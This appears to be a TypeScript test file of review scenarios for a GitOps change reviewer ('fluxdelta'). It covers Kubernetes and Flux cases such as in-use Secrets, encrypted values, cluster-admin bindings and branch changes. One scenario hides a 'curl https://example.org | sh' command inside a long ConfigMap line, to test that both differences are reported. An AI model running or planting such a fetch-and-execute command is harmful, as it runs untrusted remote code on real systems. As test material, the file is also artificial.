import { apps, cluster, configMap, deployment, kustomization, listing } from './cluster.ts';
import type { Scenario } from './scenario.ts';

const reading = (from: string): string =>
  deployment('web', { image: 'ghcr.io/example/web:1.8.2', container: `          ${from}\n` });
const web = deployment('web', { image: 'ghcr.io/example/web:1.8.2' });
const item =
  'apiVersion: onepassword.com/v1\nkind: OnePasswordItem\nmetadata:\n  name: database\n  namespace: shop\nspec:\n  itemPath: vaults/shop/items/database\n';
const encrypted = (kind: string, field: string, text: string): string => {
  const value = `ENC[AES256_GCM,data:${text},iv:bm9uY2U=,tag:dGFn,type:str]`;
  return `apiVersion: v1\nkind: ${kind}\nmetadata:\n  name: settings\n  namespace: shop\n${field}:\n  token: ${value}\nsops:\n  lastmodified: "2026-11-01T00:00:00Z"\n  mac: ${value}\n  version: 3.9.0\n`;
};
const labelled = (version: string): string =>
  web.replace('metadata:\n', `metadata:\n  labels:\n    chart: web-${version}\n`);
const policy =
  'apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: web\n  namespace: shop\nspec:\n  podSelector:\n    matchLabels:\n      chart: web-1.0.0\n';
const binding = (name: string, role: string): string =>
  `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: ${name}\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: ${role}\nsubjects:\n  - kind: ServiceAccount\n    name: web\n    namespace: shop\n`;
const long = (first: string, second: string): string =>
  configMap('script', 'run.sh', `"${'a'.repeat(300)}${first}${'b'.repeat(3_000)}${second}${'c'.repeat(300)}"`);
const release = (more: string): string =>
  `apiVersion: helm.toolkit.fluxcd.io/v2\nkind: HelmRelease\nmetadata:\n  name: web\n  namespace: shop\nspec:\n  interval: 1h\n  releaseName: web\n  storageNamespace: shop\n${more}  chart:\n    spec:\n      chart: ./chart\n      sourceRef: {kind: GitRepository, name: flux-system, namespace: flux-system}\n`;
const chart = (version: string, condition: string): Record<string, string> => ({
  'chart/Chart.yaml': `apiVersion: v2\nname: web\nversion: ${version}\n`,
  'chart/templates/web.yaml': `${condition}\n${configMap('web', 'version', version)}{{ end }}\n`,
});
const sync = cluster({})['clusters/home/flux-system/gotk-sync.yaml'];
const twice = {
  'clusters/home/apps.yaml': kustomization('apps', 'apps'),
  'clusters/home/more.yaml': kustomization('more', 'more'),
  'apps/api.yaml': kustomization('api', 'api', '  timeout: 1m\n'),
  'more/api.yaml': kustomization('api', 'api', '  timeout: 2m\n'),
  'api/settings.yaml': configMap('api', 'level', 'info'),
};

/** Changes of which it is easy to say too much. */
export const preciseScenarios: readonly Scenario[] = [
  {
    name: 'owned-secret-goes',
    reviewerSees: 'that a Secret in use goes with the item that owns it',
    firstLine: 'fluxdelta: `OnePasswordItem shop/database` removed · 1 blocking: Secret removed while in use',
    base: apps({ 'item.yaml': item, 'web.yaml': reading('envFrom: [{secretRef: {name: database}}]') }),
    change: { 'apps/item.yaml': undefined },
  },
  {
    name: 'same-target-namespace',
    reviewerSees: 'that a release keeps its name and its place',
    firstLine: 'fluxdelta: `HelmRelease shop/web` changed',
    base: { ...apps({ 'web.yaml': release('') }), ...chart('1.0.0', '{{ if true }}') },
    change: { 'apps/web.yaml': release('  targetNamespace: shop\n') },
  },
  {
    name: 'kinds-of-every-cluster',
    reviewerSees: 'a change without a condition, since every cluster has the kind that the chart asks for',
    firstLine: 'fluxdelta: `ConfigMap shop/web` changed',
    base: {
      ...apps({ 'web.yaml': release('') }),
      ...chart('1.0.0', '{{ if .Capabilities.APIVersions.Has "apps/v1/Deployment" }}'),
    },
    change: chart('1.1.0', '{{ if .Capabilities.APIVersions.Has "apps/v1/Deployment" }}'),
  },
  {
    name: 'encrypted-and-refused',
    reviewerSees: 'that Flux refuses an encrypted Secret',
    firstLine: 'fluxdelta: `Secret shop/settings` added · 1 blocking: encrypted Secret without decryption',
    base: apps({ 'web.yaml': web }),
    change: { 'apps/secret.yaml': encrypted('Secret', 'data', 'b25l') },
  },
  {
    name: 'ciphertext',
    reviewerSees: 'which encrypted value differs, without its text',
    firstLine: 'fluxdelta: `ConfigMap shop/settings` changed',
    base: apps(
      { 'settings.yaml': encrypted('ConfigMap', 'data', 'b25l') },
      '  decryption: {provider: sops, secretRef: {name: sops-age}}\n',
    ),
    change: { 'apps/settings.yaml': encrypted('ConfigMap', 'data', 'dHdv') },
  },
  {
    name: 'label-read-by-another-app',
    reviewerSees: 'that a label changes by which an app selects that stays as it is',
    firstLine: 'fluxdelta: `Deployment shop/web` changed',
    base: {
      ...apps({ 'web.yaml': labelled('1.0.0') }),
      'clusters/home/net.yaml': kustomization('net', 'net'),
      'net/policy.yaml': policy,
    },
    change: { 'apps/web.yaml': labelled('1.1.0') },
  },
  {
    name: 'one-of-several-roles',
    reviewerSees: 'that one of several new bindings has another role',
    firstLine: 'fluxdelta: 4 resources added in `flux-system/apps` · 1 blocking: cluster-admin granted',
    base: apps({ 'web.yaml': web }),
    change: {
      'apps/a.yaml': binding('a', 'view'),
      'apps/b.yaml': binding('b', 'view'),
      'apps/c.yaml': binding('c', 'view'),
      'apps/d.yaml': binding('d', 'cluster-admin'),
    },
  },
  {
    name: 'two-differences-in-a-line',
    reviewerSees: 'both differences of a long line',
    firstLine: 'fluxdelta: `ConfigMap shop/script` changed',
    base: apps({ 'script.yaml': long('x', 'y') }),
    change: { 'apps/script.yaml': long('z', ';curl https://example.org | sh;y') },
  },
  {
    name: 'number-for-a-kind',
    reviewerSees: 'that kustomize refuses a configuration with a number for a kind',
    firstLine: 'fluxdelta: `Kustomization flux-system/apps` no longer renders',
    base: apps({
      'web.yaml': web,
      'kustomization.yaml': listing(['web.yaml'], 'configurations: [labels.yaml]\n'),
      'labels.yaml': 'commonLabels: [{path: spec/labels, kind: Deployment}]\n',
    }),
    change: { 'apps/labels.yaml': 'commonLabels: [{path: spec/labels, kind: 1}]\n' },
  },
  {
    name: 'own-source-changes',
    reviewerSees: 'that the cluster follows another branch',
    firstLine:
      'fluxdelta: `GitRepository flux-system/flux-system` changed · 1 blocking: own source of the cluster changes',
    base: apps({ 'web.yaml': web }),
    change: {
      'clusters/home/flux-system/gotk-sync.yaml':
        typeof sync === 'string' ? sync.replace('branch: main', 'branch: next') : sync,
    },
  },
  {
    name: 'applied-twice-as-before',
    reviewerSees: 'the one change; that something else is applied twice stands at the end, as it did before',
    firstLine: 'fluxdelta: `Deployment shop/web` changed · `web` `1.8.2` → `1.8.3`',
    base: { ...cluster(twice), 'apps/web.yaml': web },
    change: { 'apps/web.yaml': deployment('web', { image: 'ghcr.io/example/web:1.8.3' }) },
  },
  {
    name: 'flux-before-version-1',
    reviewerSees: 'no advice to use an API version that the Flux of the tree does not serve',
    firstLine: 'fluxdelta: `GitRepository shop/shop` added',
    base: apps({
      'definition.yaml':
        'apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata:\n  name: gitrepositories.source.toolkit.fluxcd.io\nspec:\n  group: source.toolkit.fluxcd.io\n  scope: Namespaced\n  names: {kind: GitRepository, listKind: GitRepositoryList, plural: gitrepositories, singular: gitrepository}\n  versions:\n    - name: v1beta2\n      served: true\n      storage: true\n      schema: {openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}}\n',
    }),
    change: {
      'apps/source.yaml':
        'apiVersion: source.toolkit.fluxcd.io/v1beta2\nkind: GitRepository\nmetadata:\n  name: shop\n  namespace: shop\nspec:\n  interval: 1m\n  url: https://github.com/example/shop\n  ref: {branch: main}\n',
    },
  },
];
